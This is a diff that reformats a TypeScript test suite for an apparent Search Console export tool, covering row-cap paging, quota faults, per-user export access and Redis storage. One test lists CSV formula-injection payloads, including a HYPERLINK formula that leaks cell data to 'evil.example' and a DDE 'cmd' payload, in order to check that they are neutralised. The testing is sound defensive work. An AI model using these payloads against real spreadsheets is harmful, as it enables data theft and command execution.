@@ -42,10 +42,14 @@ function parseCsv(csv: string): string[][] {
       if (ch === '"' && csv[i + 1] === '"') {
         field += '"';
         i++;
-      } else if (ch === '"') quoted = false;
-      else field += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') {
+      } else if (ch === '"') {
+        quoted = false;
+      } else {
+        field += ch;
+      }
+    } else if (ch === '"') {
+      quoted = true;
+    } else if (ch === ',') {
       record.push(field);
       field = '';
     } else if (ch === '\r' && csv[i + 1] === '\n') {
@@ -54,9 +58,13 @@ function parseCsv(csv: string): string[][] {
       record = [];
       field = '';
       i++;
-    } else field += ch;
+    } else {
+      field += ch;
+    }
   }
-  if (field || record.length) throw new Error('the CSV does not end with a line break');
+  if (field || record.length) {
+    throw new Error('the CSV does not end with a line break');
+  }
   return records;
 }
 
@@ -71,11 +79,13 @@ async function readResource(c: TestClient, uri: string): Promise<{ mimeType?: st
 async function googleRows(site: string, body: Record<string, unknown>, pages: number): Promise<DirectRow[]> {
   const sc = directSearchConsole(google);
   const rows: DirectRow[] = [];
-  for (let page = 0; page < pages; page++) rows.push(...(await directRows(sc, site, { ...body, rowLimit: 25000, startRow: page * 25000 })));
+  for (let page = 0; page < pages; page++) {
+    rows.push(...(await directRows(sc, site, { ...body, rowLimit: 25000, startRow: page * 25000 })));
+  }
   return rows;
 }
 
-describe('all_rows: an export past Google\'s 50 000-row cap', () => {
+describe("all_rows: an export past Google's 50 000-row cap", () => {
   let result: any;
   let progress: Array<{ progress: number; total?: number; message?: string }>;
   let pages: Array<Record<string, any>>;
@@ -91,20 +101,45 @@ describe('all_rows: an export past Google\'s 50 000-row cap', () => {
 
   it('pages 25 000 at a time and stops at the cap, saying so, with progress on the way', async () => {
     expect(result.isError).toBeFalsy();
-    const available = google.emulator.analyticsRowsAvailable(LARGE, { startDate: WINDOW.start_date, endDate: WINDOW.end_date, dimensions: ['date', 'query'] });
+    const available = google.emulator.analyticsRowsAvailable(LARGE, {
+      startDate: WINDOW.start_date,
+      endDate: WINDOW.end_date,
+      dimensions: ['date', 'query'],
+    });
     expect(available).toBeGreaterThan(60_000); // more rows match than Google serves
-    expect(pages.map((b) => [b.startRow, b.rowLimit])).toEqual([[0, 25000], [25000, 25000]]);
+    expect(pages.map((b) => [b.startRow, b.rowLimit])).toEqual([
+      [0, 25000],
+      [25000, 25000],
+    ]);
     const out = result.structuredContent;
-    expect(out.export).toMatchObject({ rows: 50_000, requests: 2, complete: true, columns: ['date', 'query', 'clicks', 'impressions', 'ctr', 'position'], principal: 'local' });
+    expect(out.export).toMatchObject({
+      rows: 50_000,
+      requests: 2,
+      complete: true,
+      columns: ['date', 'query', 'clicks', 'impressions', 'ctr', 'position'],
+      principal: 'local',
+    });
     expect(out.rows_returned).toBeUndefined(); // export.rows counts what was exported; rows are only the first few
-    expect(out.data_truth).toMatchObject({ row_cap: 50_000, row_cap_reached: true, start_date: WINDOW.start_date, end_date: WINDOW.end_date, days: 28, freshness: 'final' });
+    expect(out.data_truth).toMatchObject({
+      row_cap: 50_000,
+      row_cap_reached: true,
+      start_date: WINDOW.start_date,
+      end_date: WINDOW.end_date,
+      days: 28,
+      freshness: 'final',
+    });
     expect(out.rows).toHaveLength(10);
     const said = text(result);
-    expect(said).toContain("Exported 50000 rows in 2 requests of up to 25000: Google's 50000-row cap was reached, so more rows may match than it serves");
+    expect(said).toContain(
+      "Exported 50000 rows in 2 requests of up to 25000: Google's 50000-row cap was reached, so more rows may match than it serves",
+    );
     expect(said).toContain('- Row cap: reached — Google serves at most 50000 rows for one day range and search type');
     expect(said).toContain(`- ${out.export.csv} — CSV, header date,query,clicks,impressions,ctr,position`);
     expect(Buffer.byteLength(JSON.stringify(out)) + Buffer.byteLength(said)).toBeLessThan(100_000);
-    expect(progress.map((p) => [p.progress, p.total])).toEqual([[1, 2], [2, 2]]);
+    expect(progress.map((p) => [p.progress, p.total])).toEqual([
+      [1, 2],
+      [2, 2],
+    ]);
     expect(progress[1].message).toBe('50000 rows stored (page 2 of at most 2)');
   });
 
@@ -119,10 +154,22 @@ describe('all_rows: an export past Google\'s 50 000-row cap', () => {
     expect(csv.mimeType).toBe('text/csv');
     const [header, ...records] = parseCsv(csv.text);
     expect(header).toEqual(['date', 'query', 'clicks', 'impressions', 'ctr', 'position']);
-    const google = await googleRows(LARGE, { startDate: WINDOW.start_date, endDate: WINDOW.end_date, dimensions: ['date', 'query'], type: 'web', dataState: 'final' }, 2);
+    const google = await googleRows(
+      LARGE,
+      { startDate: WINDOW.start_date, endDate: WINDOW.end_date, dimensions: ['date', 'query'], type: 'web', dataState: 'final' },
+      2,
+    );
     expect(google).toHaveLength(50_000);
     expect(records).toHaveLength(50_000);
-    expect(records.map(([date, query, clicks, impressions, ctr, position]) => ({ keys: [date, query], clicks: Number(clicks), impressions: Number(impressions), ctr: Number(ctr), position: Number(position) }))).toEqual(google);
+    expect(
+      records.map(([date, query, clicks, impressions, ctr, position]) => ({
+        keys: [date, query],
+        clicks: Number(clicks),
+        impressions: Number(impressions),
+        ctr: Number(ctr),
+        position: Number(position),
+      })),
+    ).toEqual(google);
     // The files keep Google's full precision; structuredContent rounds CTR to 4 decimals and position to 1, as the text does.
     expect(out.rows).toEqual(google.slice(0, 10).map((r) => ({ keys: r.keys, ...roundMetrics(r) })));
     expect(out.rows_sum.clicks).toBe(google.reduce((s, r) => s + r.clicks, 0));
@@ -130,9 +177,19 @@ describe('all_rows: an export past Google\'s 50 000-row cap', () => {
     expect(out.totals.clicks).toBeGreaterThan(out.rows_sum.clicks);
 
     const ndjson = await readResource(legacy, out.export.ndjson); // the same principal on the other protocol revision
-    const lines = ndjson.text.trimEnd().split('\n').map((l) => JSON.parse(l));
+    const lines = ndjson.text
+      .trimEnd()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     expect(lines).toHaveLength(50_000);
-    expect(lines[0]).toEqual({ date: google[0].keys[0], query: google[0].keys[1], clicks: google[0].clicks, impressions: google[0].impressions, ctr: google[0].ctr, position: google[0].position });
+    expect(lines[0]).toEqual({
+      date: google[0].keys[0],
+      query: google[0].keys[1],
+      clicks: google[0].clicks,
+      impressions: google[0].impressions,
+      ctr: google[0].ctr,
+      position: google[0].position,
+    });
     expect(lines.map((l) => [l.date, l.query, l.clicks])).toEqual(google.map((r) => [...r.keys, r.clicks]));
   });
 
@@ -141,7 +198,11 @@ describe('all_rows: an export past Google\'s 50 000-row cap', () => {
     const { resources } = await client.raw.listResources();
     expect(resources).toEqual(
       expect.arrayContaining([
-        expect.objectContaining({ uri: out.export.csv, mimeType: 'text/csv', description: expect.stringContaining("50000 rows, web search, data_state final, stopped at Google's 50 000-row cap") }),
+        expect.objectContaining({
+          uri: out.export.csv,
+          mimeType: 'text/csv',
+          description: expect.stringContaining("50000 rows, web search, data_state final, stopped at Google's 50 000-row cap"),
+        }),
         expect.objectContaining({ uri: out.export.ndjson, mimeType: 'application/x-ndjson' }),
       ]),
     );
@@ -158,10 +219,18 @@ describe('all_rows: an export under the cap', () => {
     expect(out.export).toMatchObject({ requests: 1, complete: true });
     expect(out.data_truth.row_cap_reached).toBe(false);
     const seeded = google.emulator.anonymizedShare(OWNED, { startDate: WINDOW.start_date, endDate: WINDOW.end_date });
-    expect(out.data_truth.unattributed).toMatchObject({ clicks: seeded.clicks, impressions: seeded.impressions, property_clicks: seeded.totalClicks, property_impressions: seeded.totalImpressions, listed_rows_complete: true });
+    expect(out.data_truth.unattributed).toMatchObject({
+      clicks: seeded.clicks,
+      impressions: seeded.impressions,
+      property_clicks: seeded.totalClicks,
+      property_impressions: seeded.totalImpressions,
+      listed_rows_complete: true,
+    });
     expect(out.data_truth.unattributed.impression_share).toBeCloseTo(seeded.impressionShare, 4);
     expect(out.data_truth.unattributed.impression_share).toBeCloseTo(SEEDED_SHARE, 3);
-    expect(text(result)).toContain(`of impressions (${seeded.impressions} of ${seeded.totalImpressions}), measured against a whole-property query — anonymised queries, which Google leaves out of query rows.`);
+    expect(text(result)).toContain(
+      `of impressions (${seeded.impressions} of ${seeded.totalImpressions}), measured against a whole-property query — anonymised queries, which Google leaves out of query rows.`,
+    );
     expect(text(result)).toContain('Exported');
     expect(text(result)).not.toMatch(/cap was reached/);
   });
@@ -176,13 +245,20 @@ describe('all_rows: an export under the cap', () => {
 
   it('keeps the pages it has when Google refuses a later one, and says so', async () => {
     google.emulator.reset();
-    google.emulator.injectFault({ route: 'searchanalytics.query', status: 429, message: 'Search Analytics load quota exceeded (long-term).', bodyMatches: { startRow: 25000 } });
+    google.emulator.injectFault({
+      route: 'searchanalytics.query',
+      status: 429,
+      message: 'Search Analytics load quota exceeded (long-term).',
+      bodyMatches: { startRow: 25000 },
+    });
     const result = await client.call(TOOL, { site_url: LARGE, ...WINDOW, dimensions: ['date', 'query'], all_rows: true });
     expect(result.isError).toBeFalsy();
     const out = result.structuredContent!;
     expect(out.export).toMatchObject({ rows: 25_000, requests: 2, complete: false, stopped: expect.stringMatching(/daily quota/) });
     expect(out.data_truth.row_cap_reached).toBe(false);
-    expect(text(result)).toMatch(/The export is incomplete: Google refused a later page, so it holds the first 25000 rows only\. .*daily quota/);
+    expect(text(result)).toMatch(
+      /The export is incomplete: Google refused a later page, so it holds the first 25000 rows only\. .*daily quota/,
+    );
     const csv = await readResource(client, out.export.csv);
     expect(parseCsv(csv.text)).toHaveLength(25_001);
   });
@@ -221,12 +297,26 @@ describe('all_rows: an export under the cap', () => {
 // Query text is typed by the public. Google's page of rows is replaced (a 200 fault, matched on the
 // export's 25 000-row pages) by rows whose queries a spreadsheet would run as formulas.
 describe('an export of queries that look like spreadsheet formulas', () => {
-  const HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"prices")', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', 'plain query', "'already quoted"];
+  const HOSTILE = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"prices")',
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(A1:A9)',
+    '\t=1+1',
+    '\r=1+1',
+    'plain query',
+    "'already quoted",
+  ];
   const rows = HOSTILE.map((query, i) => ({ keys: [query], clicks: 10 - i, impressions: 100, ctr: (10 - i) / 100, position: 1.5 + i }));
 
   it('neutralises them in the CSV (quoted, with a leading apostrophe), keeps the NDJSON exact, and the resource says which is which', async () => {
     google.emulator.reset();
-    google.emulator.injectFault({ route: 'searchanalytics.query', status: 200, body: { rows, responseAggregationType: 'byProperty' }, bodyMatches: { rowLimit: 25000 } });
+    google.emulator.injectFault({
+      route: 'searchanalytics.query',
+      status: 200,
+      body: { rows, responseAggregationType: 'byProperty' },
+      bodyMatches: { rowLimit: 25000 },
+    });
     const made = await client.call(TOOL, { site_url: OWNED, ...WINDOW, dimensions: ['query'], all_rows: true });
     expect(made.isError).toBeFalsy();
     const { csv, ndjson } = made.structuredContent!.export;
@@ -236,17 +326,26 @@ describe('an export of queries that look like spreadsheet formulas', () => {
     const cells = records.map((r) => r[0]);
     expect(cells).toEqual(HOSTILE.map((q) => (/^[=+\-@\t\r]/.test(q) ? `'${q}` : q)));
     // No cell a spreadsheet reads starts a formula; numbers stay numbers.
-    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    for (const record of records) {
+      for (const cell of record) {
+        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      }
+    }
     expect(records.map((r) => Number(r[1]))).toEqual(rows.map((r) => r.clicks));
     // The raw CSV quotes every neutralised cell, as OWASP advises.
     expect((await readResource(client, csv)).text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""prices"")",10,`);
 
-    const lines = (await readResource(legacy, ndjson)).text.trimEnd().split('\n').map((l) => JSON.parse(l));
+    const lines = (await readResource(legacy, ndjson)).text
+      .trimEnd()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     expect(lines.map((l) => l.query)).toEqual(HOSTILE);
 
     const { resourceTemplates } = await client.raw.listResourceTemplates();
     const template = resourceTemplates.find((t: any) => t.name === 'exports');
-    expect(template.description).toMatch(/CSV is for spreadsheets: a text cell that starts with =, \+, -, @, a tab or a carriage return is written with a leading apostrophe/);
+    expect(template.description).toMatch(
+      /CSV is for spreadsheets: a text cell that starts with =, \+, -, @, a tab or a carriage return is written with a leading apostrophe/,
+    );
     expect(template.description).toMatch(/NDJSON carries Google's values exactly/);
   });
 });
@@ -265,13 +364,15 @@ describe('exports belong to the principal who asked', () => {
     await bob?.close();
   });
 
-  it('bob can neither read nor list alice\'s export; alice can', async () => {
+  it("bob can neither read nor list alice's export; alice can", async () => {
     const made = await alice.call(TOOL, { site_url: OWNED, ...WINDOW, dimensions: ['page'], all_rows: true });
     const { csv, ndjson, principal } = made.structuredContent!.export;
     expect(principal).toBe('alice@example.com');
     expect(text(made)).toContain('readable only by the principal that asked (alice@example.com)');
     expect((await readResource(alice, csv)).text).toMatch(/^page,clicks,impressions,ctr,position\r\n/);
-    for (const uri of [csv, ndjson]) await expect(bob.raw.readResource({ uri })).rejects.toThrow(/not found/i);
+    for (const uri of [csv, ndjson]) {
+      await expect(bob.raw.readResource({ uri })).rejects.toThrow(/not found/i);
+    }
     expect((await bob.raw.listResources()).resources.map((r: any) => r.uri)).not.toContain(csv);
     expect((await alice.raw.listResources()).resources.map((r: any) => r.uri)).toEqual(expect.arrayContaining([csv, ndjson]));
     // The local (unauthenticated) caller is a third principal.
@@ -295,15 +396,21 @@ describe('exports live in the state store, not in a process', () => {
   beforeAll(async () => {
     redis = await startRedisServer();
     for (let i = 0; i < 2; i++) {
-      const replica = await startInProcess({ ...google.env, GSC_REDIS_URL: redis.url, GSC_HTTP_TOKEN: TOKEN }, [[Clock, { now: () => NOW }]]);
+      const replica = await startInProcess({ ...google.env, GSC_REDIS_URL: redis.url, GSC_HTTP_TOKEN: TOKEN }, [
+        [Clock, { now: () => NOW }],
+      ]);
       servers.push(replica);
       clients.push(await connectHttp(replica.url, { revision: '2026-07-28' }, { authorization: `Bearer ${TOKEN}` }));
     }
     clients.push(await connectAs(servers[1], 'bob@example.com'));
   }, 30_000);
   afterAll(async () => {
-    for (const c of clients) await c.close();
-    for (const s of servers) await s.close();
+    for (const c of clients) {
+      await c.close();
+    }
+    for (const s of servers) {
+      await s.close();
+    }
     await redis?.stop();
   });
 
@@ -314,12 +421,17 @@ describe('exports live in the state store, not in a process', () => {
         probe.close(() => resolve(port));
       });
     });
-    const down = await startInProcess({ ...google.env, GSC_REDIS_URL: `redis://127.0.0.1:${closed}/0`, GSC_APPROVAL_SECRET: 'a'.repeat(40) }, [[Clock, { now: () => NOW }]]);
+    const down = await startInProcess(
+      { ...google.env, GSC_REDIS_URL: `redis://127.0.0.1:${closed}/0`, GSC_APPROVAL_SECRET: 'a'.repeat(40) },
+      [[Clock, { now: () => NOW }]],
+    );
     const c = await connectHttp(down.url, { revision: '2026-07-28' });
     try {
       const result = await c.call(TOOL, { site_url: OWNED, ...WINDOW, dimensions: ['query'], all_rows: true });
       expect(result.isError).toBe(true);
-      expect(text(result)).toMatch(/^all_rows keeps the rows in the state store for 24 hours, and the state store \(Redis at redis:\/\/127\.0\.0\.1:\d+\/0\) cannot be reached: .*so no export was kept\. Nothing was changed\. .*ask without all_rows/);
+      expect(text(result)).toMatch(
+        /^all_rows keeps the rows in the state store for 24 hours, and the state store \(Redis at redis:\/\/127\.0\.0\.1:\d+\/0\) cannot be reached: .*so no export was kept\. Nothing was changed\. .*ask without all_rows/,
+      );
     } finally {
       await c.close();
       await down.close();
